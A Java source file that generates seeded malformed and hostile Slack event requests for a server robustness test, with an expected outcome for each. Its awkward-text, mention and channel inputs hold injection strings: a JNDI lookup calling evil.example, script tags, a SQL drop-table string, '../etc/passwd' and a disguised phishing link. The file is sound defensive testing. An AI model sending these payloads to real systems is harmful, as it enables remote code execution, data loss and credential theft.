package dev.ratchet.app;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * The hostile inputs of {@code ratchet bench chaos}: event requests as an attacker or a broken proxy would send them,
 * generated from a seed so that a failing run can be repeated exactly. Each says what must become of it: refused
 * ({@link Expect#REFUSED}, a 401), never stored ({@link Expect#DROPPED}), stored exactly once
 * ({@link Expect#STORED}: well-formed events with awkward text), or either ({@link Expect#EITHER}), and none may be
 * answered with a 5xx.
 */
final class ChaosFuzz {

    enum Expect {
        REFUSED,
        DROPPED,
        STORED,
        EITHER
    }

    /**
     * One request.
     *
     * @param body      the raw body
     * @param signature how to sign: {@code null} correctly, otherwise this header value
     * @param ageSeconds how far in the past the signed timestamp is
     * @param ts        the message ts it would store, when it names one in the fuzz channel (to trace stored rows)
     */
    record Input(String kind, String body, String signature, long ageSeconds, Expect expect, String ts) {}

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private final Random random;
    private final String teamId;
    private final String apiAppId;
    private final String channel;
    private final String user;
    private int serial;

    ChaosFuzz(long seed, String teamId, String apiAppId, String channel, String user) {
        this.random = new Random(seed);
        this.teamId = teamId;
        this.apiAppId = apiAppId;
        this.channel = channel;
        this.user = user;
    }

    /** {@code count} inputs, every kind represented, in a seeded order. */
    List<Input> generate(int count, long baseEpochSecond) {
        List<Supplier<Input>> kinds = List.of(
                this::forged,
                this::stale,
                this::notJson,
                this::wrongTopLevel,
                this::eventNotAnObject,
                this::badChannel,
                this::badTs,
                this::badFieldTypes,
                this::missingEnvelopeField,
                this::unknownEventType,
                this::deepNesting,
                this::oversized,
                this::awkwardText,
                this::mentionText,
                this::nestedGarbage,
                this::badReaction,
                this::badEdit,
                this::badVerification);
        List<Input> inputs = new ArrayList<>(count);
        this.base = baseEpochSecond;
        for (int i = 0; i < count; i++) {
            inputs.add(kinds.get(i < kinds.size() ? i : random.nextInt(kinds.size()))
                    .get());
        }
        return inputs;
    }

    private long base;

    /** A fresh ts in the fuzz channel, distinct from every other input's. */
    private String nextTs() {
        serial++;
        return (base + serial / 1000) + "."
                + String.format("%06d", 100_000 + serial % 1000 * 100 + random.nextInt(100));
    }

    private Map<String, Object> message(String ts, Object text) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("type", "message");
        event.put("channel", channel);
        event.put("user", user);
        event.put("text", text);
        event.put("ts", ts);
        event.put("event_ts", ts);
        event.put("channel_type", "channel");
        return event;
    }

    private Map<String, Object> envelope(Object event) {
        Map<String, Object> callback = new LinkedHashMap<>();
        callback.put("token", "verification-token-unused");
        callback.put("team_id", teamId);
        callback.put("api_app_id", apiAppId);
        callback.put("event", event);
        callback.put("type", "event_callback");
        callback.put(
                "event_id", "EvFZ" + Integer.toString(serial + 1_000_000, 36).toUpperCase() + random.nextInt(1000));
        callback.put("event_time", base);
        return callback;
    }

    private static String write(Object value) {
        try {
            return MAPPER.writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalStateException("cannot write a fuzz input as JSON", e);
        }
    }

    private Input input(String kind, Object envelope, Expect expect, String ts) {
        return new Input(kind, write(envelope), null, 0, expect, ts);
    }

    private Input forged() {
        String ts = nextTs();
        String body = write(envelope(message(ts, "forged " + ts)));
        String signature = switch (random.nextInt(4)) {
            case 0 -> "v0=" + "0".repeat(64);
            case 1 -> "v1=" + hex(64);
            case 2 -> "v0=" + hex(63);
            default -> "garbage";
        };
        return new Input("forged signature", body, signature, 0, Expect.REFUSED, ts);
    }

    private Input stale() {
        String ts = nextTs();
        String body = write(envelope(message(ts, "replayed " + ts)));
        return new Input("stale timestamp", body, null, 360 + random.nextInt(86_400), Expect.REFUSED, ts);
    }

    private Input notJson() {
        String valid = write(envelope(message(nextTs(), "cut short")));
        String body = switch (random.nextInt(5)) {
            case 0 -> valid.substring(0, 1 + random.nextInt(valid.length() - 1));
            case 1 -> "";
            case 2 -> "payload=" + valid;
            case 3 -> new String(bytes(64 + random.nextInt(512)), StandardCharsets.ISO_8859_1);
            default -> valid.replace("\"", "'");
        };
        return new Input("not JSON", body, null, 0, Expect.DROPPED, null);
    }

    private Input wrongTopLevel() {
        Object body = pick(List.of(List.of(1, 2), "event_callback", 42, true, Map.of()));
        String raw = random.nextBoolean() ? write(body) : "null";
        return new Input("not an object", raw, null, 0, Expect.DROPPED, null);
    }

    private Input eventNotAnObject() {
        Map<String, Object> callback = envelope(pick(List.of("message", 7, List.of("a"), false)));
        if (random.nextBoolean()) {
            callback.remove("event");
        }
        return input("event missing or not an object", callback, Expect.DROPPED, null);
    }

    private Input badChannel() {
        String ts = nextTs();
        Map<String, Object> event = message(ts, "bad channel " + ts);
        event.put(
                "channel",
                pick(List.of(
                        "",
                        "[]",
                        Map.of("a", 1),
                        true,
                        1.0E308,
                        123,
                        "C" + "A".repeat(300),
                        "../etc/passwd",
                        channel + "\n",
                        "c0lowercase",
                        List.of(channel))));
        if (random.nextInt(8) == 0) {
            event.remove("channel");
        }
        return input("bad channel", envelope(event), Expect.DROPPED, ts);
    }

    private Input badTs() {
        Map<String, Object> event = message("x", "bad ts");
        Object ts = pick(List.of(
                "abc",
                "NaN",
                "1e309",
                "-1",
                "",
                "1.2.3",
                1.7e9,
                "99999999999999999999.000001",
                "1700000000",
                Map.of("ts", "1700000000.000100"),
                "１７００００００００.０００１００"));
        event.put("ts", ts);
        event.put("event_ts", ts);
        if (random.nextInt(8) == 0) {
            event.remove("ts");
        }
        return input("bad ts", envelope(event), Expect.DROPPED, null);
    }

    private Input badFieldTypes() {
        String ts = nextTs();
        Map<String, Object> event = message(ts, "typed " + ts);
        String field = pick(List.of("type", "user", "text", "thread_ts", "subtype"));
        event.put(field, pick(List.of(Map.of("a", 1), List.of(1, 2), 5, false, "")));
        // a message event without a usable type, user, text or thread is not one Ratchet must keep; either is fine
        return input("bad field type: " + field, envelope(event), Expect.EITHER, ts);
    }

    private Input missingEnvelopeField() {
        String ts = nextTs();
        Map<String, Object> callback = envelope(message(ts, "no envelope " + ts));
        String field = pick(List.of("team_id", "type", "event_id"));
        if (random.nextBoolean()) {
            callback.remove(field);
        } else {
            callback.put(field, pick(List.of(Map.of("x", 1), 12, List.of())));
        }
        return input("envelope without " + field, callback, Expect.DROPPED, ts);
    }

    private Input unknownEventType() {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("type", pick(List.of("foo_bar", "app_uninstalled_maybe", "message.im.weird", "💥", "x".repeat(500))));
        event.put("channel", channel);
        event.put("event_ts", nextTs());
        return input("unknown event type", envelope(event), Expect.DROPPED, null);
    }

    private Input deepNesting() {
        int depth = 1_500 + random.nextInt(20_000);
        String ts = nextTs();
        String body =
                write(envelope(message(ts, "nested"))).replace("\"nested\"", "[".repeat(depth) + "]".repeat(depth));
        return new Input("deeply nested JSON", body, null, 0, Expect.DROPPED, ts);
    }

    private Input oversized() {
        String ts = nextTs();
        boolean overLimit = random.nextBoolean();
        int size = overLimit ? 1_100_000 + random.nextInt(500_000) : 20_000 + random.nextInt(40_000);
        Map<String, Object> event = message(ts, "big " + ts + " " + "lorem ipsum ".repeat(size / 12));
        return input(
                overLimit ? "body over 1 MiB" : "long text",
                envelope(event),
                overLimit ? Expect.DROPPED : Expect.EITHER,
                ts);
    }

    private Input awkwardText() {
        String ts = nextTs();
        String text = pick(List.of(
                        "NUL here \u0000 and there \u0000",
                        "emoji 🔥🧯 zwj 👩‍💻 rtl \u202Eevil\u202C",
                        "quotes ' \" \\ ` $$ ${jndi:ldap://evil.example/a} %s %n",
                        "<script>alert(1)</script> &amp; &lt;",
                        "'; drop table messages; --",
                        "\t\r\n line\u2028separator\u2029",
                        "combining e\u0301\u0301\u0301 and wide ｔｅｘｔ"))
                + " " + ts;
        return input("awkward text", envelope(message(ts, text)), Expect.STORED, ts);
    }

    private Input mentionText() {
        String ts = nextTs();
        String text = pick(List.of(
                        "<!channel> everyone look",
                        "<!here|here> ping",
                        "<!subteam^S0123|@oncall> and <@U0NOTHERE>",
                        "<https://evil.example/login|Slack SSO> sign in again"))
                + " " + ts;
        return input("mentions and disguised links", envelope(message(ts, text)), Expect.STORED, ts);
    }

    private Input nestedGarbage() {
        String ts = nextTs();
        Map<String, Object> event = message(ts, "extra " + ts);
        event.put("blocks", pick(List.of("not blocks", List.of(Map.of("type", 5)), Map.of("x", List.of()))));
        event.put("attachments", pick(List.of(7, List.of("a", 1), List.of(Map.of("fields", "no")))));
        event.put("files", Map.of("name", "x"));
        return input("malformed blocks or attachments", envelope(event), Expect.EITHER, ts);
    }

    private Input badReaction() {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("type", pick(List.of("reaction_added", "reaction_removed")));
        event.put("user", pick(List.of(user, 5, "")));
        event.put("reaction", pick(List.of("+1", "", List.of(), "x".repeat(300))));
        event.put(
                "item",
                pick(List.of(
                        Map.of("type", "message", "channel", channel, "ts", "nope"),
                        Map.of("type", "message", "channel", "{a=1}", "ts", "1700000000.000100"),
                        "item",
                        Map.of())));
        event.put("event_ts", nextTs());
        return input("bad reaction", envelope(event), Expect.DROPPED, null);
    }

    private Input badEdit() {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("type", "message");
        event.put("subtype", pick(List.of("message_changed", "message_deleted", "thread_broadcast")));
        event.put("channel", channel);
        String ts = nextTs();
        event.put("ts", ts);
        event.put(
                pick(List.of("message", "previous_message", "deleted_ts")), pick(List.of("x", 3, List.of(), Map.of())));
        // a thread_broadcast is a message; kept or not, it must not be a 5xx
        return input("bad edit or delete", envelope(event), Expect.EITHER, ts);
    }

    private Input badVerification() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("type", "url_verification");
        if (random.nextBoolean()) {
            body.put("challenge", pick(List.of(5, List.of(), Map.of(), "x".repeat(2_000))));
        }
        return input("bad url_verification", body, Expect.DROPPED, null);
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private String hex(int length) {
        StringBuilder out = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            out.append(Character.forDigit(random.nextInt(16), 16));
        }
        return out.toString();
    }

    private byte[] bytes(int length) {
        byte[] out = new byte[length];
        random.nextBytes(out);
        return out;
    }
}
